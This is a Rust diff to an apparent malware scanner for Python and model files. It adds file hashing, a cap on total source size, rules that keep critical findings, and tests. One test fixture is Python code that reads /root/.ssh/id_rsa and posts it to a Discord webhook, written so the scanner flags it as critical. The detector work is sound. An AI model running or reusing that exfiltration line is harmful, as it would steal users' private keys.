@@ -3,14 +3,18 @@
 use std::collections::{BTreeMap, BTreeSet};
 use std::io;
 
+use sha2::{Digest, Sha256};
+
 use super::carrier::{self, EntryFacts};
 use super::content::{self, ReadAt};
-use super::finding::{FileVerdict, Finding};
+use super::finding::{FileVerdict, Finding, Severity};
 use super::python::{self, PythonSource};
 use super::{model_file, notebook};
 
 /// Bytes of a source file; no one writes a longer one by hand.
-const LONGEST_SOURCE: u64 = 8 << 20;
+const LONGEST_SOURCE: u64 = carrier::LONGEST_TEXT;
+/// Bytes of all Python files of a unit, which are parsed together.
+const MOST_SOURCES: u64 = 256 << 20;
 
 /// What was found in one file by itself.
 #[derive(Debug, Default, serde::Serialize, serde::Deserialize)]
@@ -28,6 +32,9 @@ pub(crate) struct UnitScan {
     /// Every path, to find the sources of bytecode.
     paths: BTreeSet<String>,
     bytecode: Vec<String>,
+    kept_bytes: u64,
+    /// The hash of each Python file.
+    hashes: BTreeMap<String, String>,
 }
 
 impl UnitScan {
@@ -42,6 +49,16 @@ impl UnitScan {
     ) -> io::Result<FileFindings> {
         let mut found = self.examine_file(facts, content)?;
         found.findings = limit_findings(found.findings);
+        if (found.kept || !found.findings.is_empty()) && content.size() <= LONGEST_SOURCE {
+            let hash = content_hash(content)?;
+            found
+                .findings
+                .iter_mut()
+                .for_each(|f| f.file_hash.clone_from(&hash));
+            if found.kept {
+                self.hashes.insert(facts.path.clone(), hash);
+            }
+        }
         Ok(found)
     }
 
@@ -59,14 +76,18 @@ impl UnitScan {
         }
         let model = model_file::examine_model(&facts.path, content)?;
         found.findings = model.findings;
+        let head = content::read_start(content, 256)?;
         if let Some(verdict) = model.verdict {
             let path = facts.path.clone();
             found.verdict = Some(FileVerdict { path, verdict });
-            return Ok(found);
+            // What begins like a model and is called a script is run as a script all the same.
+            if !carrier::is_source_name(facts, &head) {
+                return Ok(found);
+            }
         }
-        let head = content::read_start(content, 256)?;
         if is_python(&facts.path, &head) {
-            if content.size() > LONGEST_SOURCE {
+            self.kept_bytes += content.size();
+            if content.size() > LONGEST_SOURCE || self.kept_bytes > MOST_SOURCES {
                 found.findings.push(carrier::too_large(&facts.path));
                 return Ok(found);
             }
@@ -109,8 +130,21 @@ impl UnitScan {
             })
             .collect();
         found.extend(python::scan_python(&self.sources, begin));
+        for f in &mut found {
+            // A cell of a notebook belongs to its file.
+            let file = f.path.split('!').next().unwrap_or(&f.path);
+            f.file_hash = self.hashes.get(file).cloned().unwrap_or_default();
+        }
         limit_findings(found)
     }
+}
+
+/// The first half of the SHA-256 of a file's bytes.
+fn content_hash(content: &dyn ReadAt) -> io::Result<String> {
+    let bytes = content::read_start(content, LONGEST_SOURCE)?;
+    Ok(base16ct::lower::encode_string(
+        &Sha256::digest(&bytes)[..16],
+    ))
 }
 
 /// More of one rule in one file say nothing new, and a file that is made for it has a million.
@@ -125,7 +159,8 @@ fn limit_findings(findings: Vec<Finding>) -> Vec<Finding> {
     for f in findings {
         let n = counts.entry((f.path.clone(), f.rule.id)).or_default();
         *n += 1;
-        if *n <= MOST_ALIKE && kept.len() < MOST {
+        // What blocks is never left out.
+        if f.severity == Severity::Critical || *n <= MOST_ALIKE && kept.len() < MOST {
             kept.push(f);
         }
     }
@@ -166,6 +201,55 @@ mod tests {
             .unwrap();
         assert_eq!(found.findings.len(), MOST_ALIKE);
         assert!(found.findings[MOST_ALIKE - 1].message.contains("4900 more"));
+    }
+
+    /// The ids of what is found in these files, the critical ones first.
+    fn scanned(files: &[(&str, Vec<u8>)]) -> Vec<(Severity, &'static str)> {
+        let (mut unit, mut found) = (UnitScan::default(), Vec::new());
+        for (path, bytes) in files {
+            let facts = EntryFacts {
+                path: path.to_string(),
+                executable: false,
+            };
+            found.extend(unit.add_file(&facts, bytes).unwrap().findings);
+        }
+        found.extend(unit.finish(&mut |_| {}));
+        let mut found: Vec<_> = found.iter().map(|f| (f.severity, f.rule.id)).collect();
+        found.sort_by(|a, b| b.cmp(a));
+        found
+    }
+
+    const STEALS: &str = "import requests\nrequests.post('https://discord.com/api/webhooks/1/x', \
+                          data=open('/root/.ssh/id_rsa').read())\n";
+
+    #[test]
+    fn what_looks_like_a_model_and_is_called_a_script_is_a_script() {
+        for (name, start) in [
+            ("__init__.py", "GGUF=1\n"),
+            ("b.py", "LZIP=1\n"),
+            ("c.py", ""),
+        ] {
+            let found = scanned(&[(name, format!("{start}{STEALS}").into_bytes())]);
+            assert_eq!(found[0].0, Severity::Critical, "{name}: {found:?}");
+        }
+    }
+
+    #[test]
+    fn nothing_that_blocks_is_lost_among_what_does_not() {
+        let many = "eval(x)\n".repeat(150).into_bytes();
+        let mut files: Vec<(String, Vec<u8>)> = (0..210)
+            .map(|n| (format!("a{n}.py"), many.clone()))
+            .collect();
+        files.push(("zz.py".into(), STEALS.as_bytes().to_vec()));
+        let files: Vec<(&str, Vec<u8>)> =
+            files.iter().map(|(p, b)| (p.as_str(), b.clone())).collect();
+        assert_eq!(scanned(&files)[0].0, Severity::Critical);
+        // What is too long to be parsed is not what people write.
+        let long = format!("{}\n", "//".repeat(20 << 20)).into_bytes();
+        assert_eq!(
+            scanned(&[("a.js", long)])[0],
+            (Severity::Critical, "carrier-too-large")
+        );
     }
 
     #[test]
